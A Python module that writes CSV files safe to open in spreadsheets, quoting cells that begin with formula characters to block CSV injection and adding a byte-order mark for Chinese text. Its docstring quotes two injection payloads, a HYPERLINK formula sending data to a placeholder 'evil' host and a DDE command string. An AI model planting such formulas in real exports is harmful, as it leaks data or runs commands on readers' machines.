"""CSV files for people to open in a spreadsheet: safe to open, and readable in Chinese.

Every CSV the app or the CLI writes for people goes through :func:`write_csv`:

- **No formulas from data.** Excel, LibreOffice and Google Sheets run a cell that starts with
  ``=``, ``+``, ``-`` or ``@`` as a formula (tab and carriage return lead there too), so a
  customer name such as ``=HYPERLINK("http://evil/?"&A1)`` or an order note such as
  ``+cmd|' /C calc'!A0`` would run on the reader's machine. Such text cells get a single quote in
  front (OWASP's rule for CSV injection): the spreadsheet shows the text as text.
- **Numbers stay numbers.** A cell written from an ``int`` or a ``Decimal`` cannot hold a
  formula, so a negative amount keeps its minus and stays a number. Only the value's type tells
  a number apart: text that merely looks like ``-5`` is text and is quoted like any other.
- **UTF-8 with a byte-order mark,** which Excel needs to read the file as UTF-8 rather than the
  system's code page (Chinese names turned to mojibake without it).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from decimal import Decimal
from pathlib import Path

__all__ = ["FORMULA_STARTS", "spreadsheet_cell", "write_csv"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a text cell may not start with unless quoted (OWASP, "CSV Injection")."""


def spreadsheet_cell(value: object) -> str:
    """``value`` as a cell a spreadsheet shows and never runs.

    ``None`` is empty; an ``int`` or a finite ``Decimal`` is written as a plain number (never in
    scientific notation); anything else is text, with a single quote in front if it starts with
    one of :data:`FORMULA_STARTS`.
    """
    if value is None:
        return ""
    if isinstance(value, int) and not isinstance(value, bool):
        return str(value)
    if isinstance(value, Decimal) and value.is_finite():
        return format(value, "f")
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_csv(path: Path, header: Sequence[str], rows: Iterable[Sequence[object]]) -> int:
    """Write ``header`` and ``rows`` to ``path`` (replacing it) as a spreadsheet-safe CSV, UTF-8
    with a byte-order mark; returns the number of rows written."""
    count = 0
    with path.open("w", newline="", encoding="utf-8-sig") as out:
        writer = csv.writer(out)
        writer.writerow([spreadsheet_cell(name) for name in header])
        for row in rows:
            writer.writerow([spreadsheet_cell(value) for value in row])
            count += 1
    return count
